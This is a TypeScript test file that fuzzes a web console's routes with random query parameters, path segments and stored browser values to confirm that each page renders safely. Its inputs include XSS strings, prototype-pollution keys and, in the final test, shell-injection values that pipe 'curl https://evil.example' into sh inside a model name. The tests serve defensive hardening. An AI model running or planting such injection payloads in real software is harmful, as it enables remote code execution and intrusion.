// @vitest-environment happy-dom

import { createRandom } from "@tollgate/testkit/random";
import { describe, expect, it, vi } from "vitest";
import { cleanup, screen } from "../testing/draw";
import { openConsole } from "../testing/open-console";
import { playServer } from "../testing/play-server";
import { createConsoleRouter } from "./router";

/*
 * An address may be a link, an old bookmark or an attack. Whatever it contains, each page renders or reports the
 * missing record.
 */

const ROUTES = Object.keys(createConsoleRouter().routesByPath).sort();

/** The parameter names that the pages read from their address. */
const NAMES = [
  ...new Set(
    Object.values(
      import.meta.glob<string>(
        ["../**/*search*.ts", "../**/*-page.tsx", "../**/*-lists.tsx", "!../**/*.test.*"],
        {
          query: "?raw",
          import: "default",
          eager: true,
        },
      ),
    ).flatMap((source) => [...source.matchAll(/\b(?:search|address)\.(\w+)/g)].map(([, name = ""]) => name)),
  ),
  ...["p", "size", "sort", "status", "type", "group", "tab", "created", "__proto__", "constructor"],
];

/** Values in an address, some of which are parsed as numbers or JSON. */
const VALUES = [
  "-1",
  "0.5",
  "1e999",
  "9007199254740993",
  "NaN",
  "__proto__",
  "-constructor",
  "toString",
  "null",
  "true",
  "{}",
  "[]",
  '{"a":{"b":[1,null]}}',
  '{"__proto__":{"x":1},"toString":1}',
  "[[[1]]]",
  '"\\ud800"',
  "\u202e\u0000",
  "%",
  "javascript:alert(1)",
  "<img src=x onerror=alert(1)>",
  "x".repeat(10_000),
  '[{"column":"__proto__","from":"x","to":{}}]',
];

const PARTS = [
  "-1",
  "0",
  "NaN",
  "99999999999999999999",
  "__proto__",
  "%00",
  "%F0%9F%A5%B6",
  "..%2F..",
  "%E2%80%AE",
];

const draw = createRandom(7);
const pick = <T,>(from: readonly T[]): T => from[Math.floor(draw() * from.length)] as T;

/** Every name with some value, and one name twice. */
const writeSearch = (): string =>
  [...NAMES, pick(NAMES)].map((name) => `${name}=${encodeURIComponent(pick(VALUES))}`).join("&");

const settle = async () => {
  for (let turns = 0; turns < 6; turns += 1) await new Promise((resolve) => setTimeout(resolve, 5));
};

/** The mistake of a page; undefined if it renders, or reports the missing record. */
const faultOf = async (address: string): Promise<string | undefined> => {
  cleanup();
  const { answer } = playServer();
  const said = vi.spyOn(console, "error").mockImplementation(() => undefined);
  await openConsole(address, { "*": answer });
  await settle();
  const text = document.querySelector("main")?.textContent ?? "";
  if (text.includes("这个页面没能打开")) return text;
  if (text.length < 4) return "nothing";
  if (document.querySelector("main img[onerror]")) return "an element of the address";
  return said.mock.calls.length > 0 ? String(said.mock.calls[0]) : undefined;
};

describe("each page shows itself, or a sentence, at an address with", () => {
  it.each(ROUTES)("arbitrary text in place of its parameters: %s", async (route) => {
    expect(NAMES.length).toBeGreaterThan(20);
    const faults: string[] = [];
    for (const isKnown of [true, false]) {
      // An existing record shows its search parameters; a record named by a random address does not exist.
      const path = route.replaceAll(/\$\w+/g, (part) =>
        isKnown ? (part === "$requestId" ? "r1" : "2") : pick(PARTS),
      );
      const address = `${path}?${writeSearch()}`;
      const fault = await faultOf(address);
      if (fault !== undefined) faults.push(`${address.slice(0, 2000)}: ${fault.slice(0, 500)}`);
    }
    expect(faults).toEqual([]);
  });
});

/** Values under any name that an older version, another program of the same origin or a user may have stored. */
const STORED = [
  "null",
  "5",
  "{",
  "[null]",
  '"text"',
  '[{"name":1,"path":{},"search":null}]',
  '{"system_name":{},"quota_per_unit":"x","plans":1,"list_queries":1,"server_address":[],"footer_html":{}}',
  '{"__proto__":{"x":1},"toString":1}',
  "x".repeat(10_000),
];

describe("each page shows itself, or a sentence, with a browser's storage that holds", () => {
  it.each(ROUTES.map((route, index) => [route, STORED[index % STORED.length] ?? ""]))(
    "anything: %s",
    async (route, stored) => {
      const user = JSON.stringify({ id: 1, username: "me", role: 100, status: 1 });
      const storage = { setItem: () => undefined, removeItem: () => undefined, clear: () => undefined };
      vi.stubGlobal("localStorage", {
        ...storage,
        getItem: (name: string) => (name === "user" ? user : stored),
      });
      const path = route.replaceAll(/\$\w+/g, (part) => (part === "$requestId" ? "r1" : "2"));
      expect(await faultOf(path)).toBeUndefined();
    },
  );
});

describe("an example that people copy and run", () => {
  it.each([
    'x"; curl https://evil.example | sh; "',
    "x'; curl https://evil.example | sh; '",
    "$(curl https://evil.example)",
    "`curl https://evil.example`",
    'x\\", evil.example: "',
    "x\ncurl https://evil.example\n",
    "x\u202ecurl evil.example",
  ])("has no name from the address in it that is more than a name: %j", async (name) => {
    const { answer } = playServer();
    await openConsole(`/model/${encodeURIComponent(name)}?tab=connect`, { "*": answer });
    const example = await screen.findByText(/chat\/completions/, { selector: "pre" });
    expect(example.textContent).toContain('{"model": "MODEL"');
    expect(example.textContent).not.toContain("evil");
  });
});
